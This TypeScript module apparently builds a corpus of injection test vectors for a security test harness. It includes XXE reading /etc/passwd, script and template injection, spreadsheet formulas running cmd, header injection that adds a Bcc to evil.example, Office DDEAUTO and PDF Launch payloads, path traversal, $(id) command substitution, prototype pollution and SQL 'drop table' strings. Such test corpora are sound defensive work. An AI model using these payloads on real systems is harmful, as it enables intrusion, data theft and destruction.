/** What is no markup of a page, and acts in feeds, tables, letters, office files, names of files, or programs. */
import { type Context, type Family, type Vector, vector } from "./payload.ts";

type Write = Vector["write"];

const XHTML = "http://www.w3.org/1999/xhtml";
const XML: readonly (readonly [Context | null, Write])[] = [
  ["xhtml", (n) => `<x:script xmlns:x="${XHTML}">__mc(${n})</x:script>`],
  ["xhtml", (n) => `<script xmlns="${XHTML}">__mc(${n})</script>`],
  ["xhtml", (n) => `<svg xmlns="http://www.w3.org/2000/svg" onload="__mc(${n})"/>`],
  ["xhtml-cdata", (n) => `]]><script xmlns="${XHTML}">__mc(${n})</script><![CDATA[`],
  ["xhtml-cdata", (n) => `]]><x:script xmlns:x="${XHTML}">__mc(${n})</x:script><![CDATA[`],
  [null, (n) => `]]>${n}`],
  [null, (n) => `]]]]><![CDATA[>${n}`],
  [null, (n) => `<!DOCTYPE x [<!ENTITY m SYSTEM "file:///etc/passwd">]>&m;${n}`],
  [null, (n) => `&m;${n}&#0;&#xd800;`],
  [null, (n) => `<?xml-stylesheet type="text/xsl" href="${n}.xsl"?>`],
  [null, (n) => `<!-- ${n} -- >`],
  [null, (n) => `<?php echo ${n} ?>`],
];

/** Texts that engines of templates would work out: 7919 × 1009 = 7990271 must never stand anywhere. */
export const WORKED_OUT = "7990271";
const TEMPLATES: readonly Write[] = [
  ...[
    ["{{", "}}"],
    ["${", "}"],
    ["#{", "}"],
    ["<%= ", " %>"],
    ["[[", "]]"],
    ["{%", "%}"],
    ["@(", ")"],
    ["*{", "}"],
  ].map(
    ([open, close]): Write =>
      (n) =>
        `${open}7919*1009${close} ${n}`,
  ),
  (n) => `$t(queue.title) ${n}`,
  (n) => `{{- count}} {{name}} ${n}`,
  (n) => `%s %d %n %x ${n}`,
  (n) => `$& $1 $\` $' $$ $<x> ${n}`,
  (n) => `{0} {count} ${n}`,
];

const PROGRAMS = [
  "1+1",
  'HYPERLINK("http://127.0.0.1/x","xem")',
  "cmd|'/C calc'!A0",
  'WEBSERVICE("http://127.0.0.1/x")',
];
const FORMULAS: readonly Write[] = [
  ...["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠"].map(
    (begin, at): Write =>
      (n) =>
        `${begin}${PROGRAMS[at % PROGRAMS.length]}*${n}`,
  ),
  // Where a table is read with another separator, what stands behind one begins a cell.
  ...[";", "\t", "|", "\n", "\r\n", ";;"].map(
    (part): Write =>
      (n) =>
        `La Chữ${part}=1+${n}`,
  ),
  ...['";=', '",=', '"\n='].map(
    (part): Write =>
      (n) =>
        `La Chữ${part}1+${n}`,
  ),
];

const HEADERS: readonly Write[] = [
  (n) => `x\r\nBcc: mc${n}@evil.example`,
  (n) => `x\nX-Mc: ${n}`,
  (n) => `x\rX-Mc: ${n}`,
  (n) => `x\r\n\r\n<script>__mc(${n})</script>`,
  (n) => `x\r\nSet-Cookie: mc=${n}`,
  (n) => `x%0d%0aX-Mc: ${n}`,
  (n) => `x\u560d\u560aX-Mc: ${n}`,
  (n) => `=?utf-8?B?${Buffer.from(`x\r\nX-Mc: ${n}`).toString("base64")}?=`,
  (n) => `=?utf-8?Q?x=0D=0AX-Mc:_${n}?=`,
  (n) => `x\u0085X-Mc: ${n}`,
  (n) => `mc${n}@a.example>, <evil@b.example`,
  (n) => `\r\n.\r\nMAIL FROM:<mc${n}@evil.example>`,
  (n) => `"; filename="mc${n}.exe`,
];

const OFFICE: readonly Write[] = [
  (n) =>
    `</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ${n}</w:instrText></w:r><w:r><w:t>`,
  (n) => `<w:fldSimple w:instr="INCLUDETEXT file:///etc/passwd ${n}"/>`,
  (n) => `{ DDEAUTO cmd.exe "/k ${n}" }`,
  (n) => `{ INCLUDEPICTURE "http://127.0.0.1/${n}" \\d }`,
  (n) => `) /OpenAction << /S /JavaScript /JS (app.alert(${n})) >> (`,
  (n) => `endstream endobj ${n} 0 obj << /Launch /F (cmd.exe) >>`,
  (n) => `\\x3c${n}%PDF-1.7 %%EOF`,
  (n) => `<office:script script:language="x">${n}</office:script>`,
];

/** Letters that turn, hide or end what stands around them. NUL and lone halves of pairs are no text, and have a test of their own. */
const DIRECTIONS: readonly Write[] = [
  (n) => `\u202e${n} gnồđ uệirt 5`,
  (n) => `\u202d\u202d\u202d${n}`,
  (n) => `\u2067${n}\u2066`,
  (n) => `\u2069\u2069${n}`,
  (n) => `\u061c\u200e\u200f${n}`,
  (n) => `bao-cao-${n}\u202efdp.exe`,
  (n) => `La\u200bC\u200ch\u200dữ${n}`,
  (n) => `\ufeff${n}\ufeff`,
  (n) => `\u0007\b\u001b]0;${n}\u0007\u001b[2J`,
  (n) => `\u000b\u000c${n}\u001c\u001f`,
  (n) => `\u007f\u0080\u009b31m${n}`,
  (n) => `\ufffe\uffff${n}`,
  (n) => `${n}${"a\u0301\u0302\u0303\u0306".repeat(12)}`,
  (n) => `${n}\u{e0061}\u{e0062}\u{e007f}`,
  (n) => `${n}\u2028\u2029\u0085`,
  (n) => `La Сhữ ${n} аррӏе`,
  (n) => `${n}${"👨‍👩‍👧‍👦".repeat(6)}`,
];

const PATHS: readonly Write[] = [
  (n) => `../../../../etc/passwd?${n}`,
  (n) => `..\\..\\..\\windows\\win.ini?${n}`,
  (n) => `/etc/passwd#${n}`,
  (n) => `C:\\boot.ini?${n}`,
  (n) => `%2e%2e%2f%2e%2e%2fetc%2fpasswd?${n}`,
  (n) => `....//....//etc/passwd?${n}`,
  (n) => `..%c0%af..%c0%afetc/passwd?${n}`,
  (n) => `\\\\127.0.0.1\\share\\${n}`,
  (n) => `con.txt:${n}`,
  (n) => `a/../../${n}.docx`,
  (n) => `.htaccess ${n}`,
  (n) => `~root/${n}`,
  (n) => `$(id)${n}`,
  (n) => `\`id\`;id|id&&id ${n}`,
];

const KEYS: readonly Write[] = [
  ...["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "then"].map(
    (key): Write =>
      (n) =>
        `${key}${n % 2 ? "" : ` ${n}`}`,
  ),
  (n) => `__proto__[mc]=${n}`,
  (n) => `constructor.prototype.mc=${n}`,
  (n) => `{"__proto__":{"mc":${n}}}`,
];

const QUERIES: readonly Write[] = [
  (n) => `'; drop table users; -- ${n}`,
  (n) => `' or ${n}=${n} --`,
  (n) => `%_\\ ${n}`,
  (n) => `$$; select pg_sleep(9); $$ ${n}`,
  (n) => `\\'; select ${n}; --`,
  (n) => `a:* & !b | <-> ${n}`,
];

const all = (family: Family, writes: readonly Write[]) => writes.map((write) => vector(family, null, write));

export const OTHER_VECTORS: readonly Vector[] = [
  ...XML.map(([context, write]) => vector("xml", context, write)),
  ...all("template", TEMPLATES),
  ...all("formula", FORMULAS),
  ...all("header", HEADERS),
  ...all("office", OFFICE),
  ...all("direction", DIRECTIONS),
  ...all("path", PATHS),
  ...all("key", KEYS),
  ...all("query", QUERIES),
];
